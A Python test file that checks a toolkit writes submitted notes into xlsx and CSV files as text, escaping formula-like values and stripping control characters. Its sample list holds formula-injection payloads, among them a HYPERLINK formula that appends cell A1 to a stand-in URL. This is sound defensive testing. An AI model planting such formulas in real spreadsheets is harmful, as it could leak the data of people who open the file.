"""Text copied from a submission is written as text, never as a formula, in xlsx and CSV."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import openpyxl
import pytest
import xlsxwriter

from toolkit.gate import read_workbook
from toolkit.safe_text import as_text_cell, clean_text, csv_row, csv_safe, set_text, write_text

NOTES = [
    "=1+2",
    '=HYPERLINK("http://example.invalid/?x="&A1,"Bấm vào đây")',
    "+84 912 345 678",
    "-5 so với cùng kỳ",
    "@SUM(A1:A3)",
    "\tthụt đầu dòng",
    "\rdòng mới",
    "＝1+1",
    "ghi chú thường",
]


def in_workbook(note: str) -> str:
    """A note as a workbook cell holds it: a carriage return is a line break there."""
    return note.replace("\r", "\n")


def test_xlsxwriter_write_text_stores_strings(tmp_path: Path) -> None:
    path = tmp_path / "notes.xlsx"
    wb = xlsxwriter.Workbook(str(path))
    ws = wb.add_worksheet("Ghi chú")
    for i, note in enumerate(NOTES):
        write_text(ws, i, 0, note)
        ws.write(i, 1, note)  # the naive call, for contrast
    wb.close()

    ws2 = openpyxl.load_workbook(path).active
    for i, note in enumerate(NOTES, start=1):
        cell = ws2.cell(i, 1)
        assert cell.data_type == "s" and cell.value == in_workbook(note), note
    assert ws2.cell(1, 2).data_type == "f"  # xlsxwriter's write() would have made a formula

    r = read_workbook(path)
    assert r.ok, r.findings
    sheet = r.book.sheets[0]
    for i, note in enumerate(NOTES, start=1):
        c = sheet.get(f"A{i}")
        assert (c.value, c.formula, c.kind) == (in_workbook(note), None, "s"), note
    assert sheet.get("B1").formula == "1+2"


def test_openpyxl_set_text_stores_strings(tmp_path: Path) -> None:
    path = tmp_path / "opx.xlsx"
    wb = openpyxl.Workbook()
    ws = wb.active
    for i, note in enumerate(NOTES, start=1):
        set_text(ws.cell(i, 1), note)
        ws.cell(i, 2).value = note  # the naive assignment, for contrast
    wb.save(path)

    r = read_workbook(path)
    sheet = r.book.sheets[0]
    for i, note in enumerate(NOTES, start=1):
        c = sheet.get(f"A{i}")
        assert (c.value, c.formula) == (in_workbook(note), None), note
    assert sheet.get("B1").formula == "1+2"


def test_csv_export_keeps_notes_as_text() -> None:
    rows = [["Mã", "Giá trị", "Ghi chú"]] + [["NN.1", -5, note] for note in NOTES] + [["NN.2", 1.5, None]]
    buf = io.StringIO()
    w = csv.writer(buf)
    for row in rows:
        w.writerow(csv_row(row))
    back = list(csv.reader(io.StringIO(buf.getvalue())))
    assert back[0] == ["Mã", "Giá trị", "Ghi chú"]
    for note, row in zip(NOTES, back[1:], strict=False):
        assert row[1] == "-5"  # a number stays a number
        if note[0] in "=+-@\t\r＝":
            assert row[2] == "'" + note
        else:
            assert row[2] == note
    assert back[-1] == ["NN.2", "1.5", ""]


@pytest.mark.parametrize(
    "value, expected",
    [
        ("=A1", "'=A1"),
        ("-", "'-"),
        ("a=b", "a=b"),
        (" =A1", " =A1"),
        ("", ""),
        (None, ""),
        (3, 3),
        (-2.5, -2.5),
        (True, True),
        ("\x01=cmd", "'=cmd"),
    ],
)
def test_csv_safe(value: object, expected: object) -> None:
    assert csv_safe(value) == expected


def test_control_characters_are_removed() -> None:
    assert clean_text("a\x00b\x01c\x0bd\x0ce\tf\ng\rh") == "abc\nd\ne\tf\ng\rh"
    assert clean_text("x\ud800y") == "x\ufffdy"
    assert clean_text("bình thường") == "bình thường"


def test_as_text_cell() -> None:
    assert as_text_cell(None) == "" and as_text_cell(3.0) == "3" and as_text_cell(True) == "TRUE"
    assert as_text_cell("a\r\nb\rc") == "a\nb\nc"
    assert len(as_text_cell("x" * 40_000)) == 32_767
    assert len(as_text_cell("😀" * 20_000)) == 16_383  # UTF-16 units, as Excel counts


def test_written_control_characters_are_readable_back(tmp_path: Path) -> None:
    path = tmp_path / "ctrl.xlsx"
    wb = xlsxwriter.Workbook(str(path))
    ws = wb.add_worksheet()
    write_text(ws, 0, 0, "dòng 1\x0bdòng 2\x01")
    ws.write_string(1, 0, "bad\x01")  # unsafe: the gate flags it on the way back in
    wb.close()
    r = read_workbook(path)
    assert r.book.sheets[0].value("A1") == "dòng 1\ndòng 2"
    assert [(f.code, f.cell) for f in r.findings] == [("control-characters", "A2")]
